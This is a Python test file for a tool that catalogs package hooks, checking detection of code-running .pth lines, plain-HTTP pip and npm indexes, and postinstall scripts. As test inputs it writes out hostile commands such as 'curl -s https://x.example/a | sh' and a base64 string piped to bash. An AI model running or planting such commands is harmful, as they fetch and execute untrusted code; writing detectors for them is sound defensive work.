import json
from types import SimpleNamespace

import pytest

from careen.catalogers.hooks import index_facts, read_npm, read_package, read_pip, read_start
from careen.model.hooks import HookFact

PLACE = "usr/lib/python3/site-packages/a.pth"


def file(text, path="a"):
    return SimpleNamespace(path=path, data=text if isinstance(text, bytes) else text.encode(), mode=0o644, size_bytes=len(text))


def test_lines_of_pth_files_that_run():
    text = "../lib\n# import x\nimport os; os.system('id')\n"
    assert not list(read_start(file(text, "opt/weights/a.pth")))
    assert list(read_start(file(text, PLACE))) == [HookFact("python_start", "import os; os.system('id')")]
    assert not list(read_start(file(b"PK\0\0import torch\nimport os", PLACE)))


def test_indexes_of_pip():
    text = "[global]\nindex-url = https://user:secret@index.example/simple\nextra-index-url=http://other.example/simple\n"
    assert list(read_pip(file(text))) == [HookFact("extra_index", "other.example"), HookFact("plain_index", "other.example")]


def test_registries_of_npm():
    assert list(read_npm(file("@a:registry=http://npm.example/\nregistry=https://x.example\n"))) == [
        HookFact("plain_index", "npm.example")
    ]


def test_an_address_that_is_none_states_nothing():
    assert not list(index_facts(True, "http://[broken"))
    assert not list(index_facts(False, "http://localhost:8080/simple"))


@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://x.example/a | sh",
        "node -e \"require('child_process').exec('id')\"",
        "echo aGk= | base64 -d | bash",
    ],
)
def test_scripts_that_run_what_they_download(command):
    facts = list(read_package(file(json.dumps({"scripts": {"postinstall": command}}))))
    assert [fact.kind for fact in facts] == ["install"]


@pytest.mark.parametrize(
    "text",
    [
        json.dumps({"scripts": {"postinstall": "node install.js", "test": "curl x | sh"}}),
        json.dumps({"scripts": ["install"]}),
        json.dumps({"scripts": {"install": 1}}),
        '{"install": "',
        "[" * 100_000 + '"install"',
    ],
)
def test_other_scripts_state_nothing(text):
    assert not list(read_package(file(text)))
